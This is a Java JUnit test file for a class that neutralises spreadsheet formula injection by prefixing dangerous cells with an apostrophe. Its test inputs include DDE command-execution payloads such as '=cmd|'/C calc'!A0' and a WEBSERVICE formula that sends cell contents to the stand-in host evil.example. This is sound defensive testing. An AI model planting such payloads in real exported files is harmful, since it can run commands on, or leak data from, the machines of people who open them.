package app.kith.transfer;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulasTest {
    @ParameterizedTest
    @ValueSource(strings = {
            "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(A1,\"//a\")",
            "=WEBSERVICE(\"http://evil.example/\"&A1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=", "==", "= 1",
            "+1", "+33 6 12 34 56 78", "+cmd|'/C calc'!A0", "++", "-1", "-2+3+cmd|'/C calc'!D2", "--", "-", "@SUM(1+1)",
            "@", "@jill", "\t=1+1", "\tx", "\r=1+1", "\n=1+1", "\0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1",
            "''=1+1", "'+33"})
    void whatASpreadsheetWouldRunGetsAnApostropheAndComesBack(String cell) {
        assertThat(Formulas.safe(cell)).isEqualTo("'" + cell);
        assertThat(Formulas.exact(Formulas.safe(cell))).isEqualTo(cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Jill", "1+1", "a=b", "'tis", "''", "'", "2026-03-12", "jill@northlight.example",
            " =1"})
    void everythingElseStaysAsItIs(String cell) {
        assertThat(Formulas.safe(cell)).isEqualTo(cell);
        assertThat(Formulas.exact(cell)).isEqualTo(cell);
    }

    @Test
    void aRowWithoutThemIsNotCopied() {
        var row = List.of("Jill", "Moreau");
        assertThat(Formulas.safe(row)).isSameAs(row);
    }
}
